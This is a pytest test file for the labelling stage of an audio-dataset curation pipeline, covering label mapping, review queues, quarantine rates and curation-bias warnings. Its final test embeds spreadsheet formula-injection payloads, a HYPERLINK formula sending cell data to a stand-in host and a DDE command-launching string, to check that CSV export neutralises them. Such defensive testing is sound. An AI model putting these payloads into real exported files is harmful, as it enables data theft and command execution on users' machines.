import csv

import pandas as pd
import pytest

from auscult import table
from auscult.stages.label import (
    LABELLED,
    REVIEW,
    UNLABELLED,
    invert,
    label,
    quarantine_bias,
    quarantine_rates,
    review_queue,
)


def curated(rows):
    frame = table.empty("curate")
    frame = pd.concat([frame, pd.DataFrame(rows)], ignore_index=True)
    frame["status"] = frame["status"].fillna(table.OK)
    return table.conform(frame, "curate")


def test_class_map_and_statuses():
    frame = curated(
        [
            {"recording_id": "1", "participant_id": "a", "raw_label": "Positive_Mild", "original_path": "/d/1.wav"},
            {"recording_id": "2", "participant_id": "b", "raw_label": "healthy", "original_path": "/d/2.wav"},
            {"recording_id": "3", "participant_id": "c", "raw_label": "postive", "original_path": "/d/3.wav"},
            {"recording_id": "4", "participant_id": "d", "raw_label": None, "original_path": "/d/4.wav"},
        ]
    )
    out = label(frame)
    assert out["label"].tolist()[:2] == ["positive", "negative"]
    assert out["label_status"].tolist() == [LABELLED, LABELLED, REVIEW, UNLABELLED]
    assert out["label"][2:].isna().all()
    assert "/d/3.wav" in out.loc[2, "label_note"] and "postive" in out.loc[2, "label_note"]
    assert review_queue(out)["recording_id"].tolist() == ["3"]


def test_a_participant_with_disagreeing_labels_goes_to_review():
    frame = curated(
        [
            {"recording_id": "1", "participant_id": "a", "raw_label": "positive", "original_path": "/d/1.wav"},
            {"recording_id": "2", "participant_id": "a", "raw_label": "negative", "original_path": "/d/2.wav"},
            {"recording_id": "3", "participant_id": "b", "raw_label": "negative", "original_path": "/d/3.wav"},
        ]
    )
    out = label(frame)
    assert out["label_status"].tolist() == [REVIEW, REVIEW, LABELLED]
    assert "different labels" in out.loc[0, "label_note"]


def test_custom_class_map_and_contradictions():
    assert invert({"wheeze": ["whistle"], "normal": []}) == {
        "wheeze": "wheeze",
        "whistle": "wheeze",
        "normal": "normal",
    }
    with pytest.raises(ValueError, match="both"):
        invert({"a": ["x"], "b": ["x"]})


def test_session_cohort_keeps_every_row(labelled):
    assert len(labelled) == 96
    assert (labelled["label_status"] != LABELLED).sum() > 0


def test_quarantine_is_reported_by_class_and_source(labelled):
    rates = quarantine_rates(labelled)
    by_class = rates[rates["by"] == "class"].set_index("value")
    assert set(by_class.index) >= {"negative", "positive"}
    quarantined = labelled["status"] == "quarantined"
    assert by_class["quarantined"].sum() == quarantined.sum()
    assert set(rates.loc[rates["by"] == "source", "value"]) == set(labelled["source"])


def test_curation_that_takes_sides_is_flagged(labelled):
    assert quarantine_bias(quarantine_rates(labelled.assign(status="ok"))) is None
    positives = labelled.index[labelled["label"] == "positive"]
    biased = labelled.copy()
    biased.loc[positives[: len(positives) // 2], "status"] = "quarantined"
    biased.loc[labelled["label"] != "positive", "status"] = "ok"
    warning = quarantine_bias(quarantine_rates(biased))
    assert warning.startswith("curation took sides: quarantined negative 0.0% of") and "Fisher" in warning


def test_byte_identical_copies_that_disagree_go_to_review_with_both_named():
    clash = "/d/1.wav (m.csv line 2) and /d/9.wav (m.csv line 3) are byte-identical but name different participants"
    frame = curated(
        [
            {"recording_id": "1", "participant_id": "a", "raw_label": "positive", "original_path": "/d/1.wav"},
            {"recording_id": "2", "participant_id": "b", "raw_label": "negative", "original_path": "/d/2.wav"},
        ]
    )
    frame.loc[0, "conflict"] = clash
    out = label(frame)
    assert out["label_status"].tolist() == [REVIEW, LABELLED] and pd.isna(out.loc[0, "label"])
    assert review_queue(out)[["recording_id", "label_note"]].values.tolist() == [["1", clash]]


def test_the_review_queue_csv_holds_no_live_formula(tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    frame = curated(
        [
            {"recording_id": "1", "participant_id": "a", "raw_label": formula, "original_path": "@/d/1.wav"},
            {"recording_id": "2", "participant_id": "b", "raw_label": "-1+2", "original_path": "/d/2.wav"},
            {
                "recording_id": "3",
                "participant_id": "c",
                "raw_label": "+cmd|' /C calc'!A0",
                "original_path": "/d/3.wav",
            },
        ]
    )
    path = tmp_path / "review.csv"
    table.write_csv(review_queue(label(frame)), path)
    with open(path, newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 4 and not [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert rows[1][1:3] == ["'@/d/1.wav", f"'{formula}"]
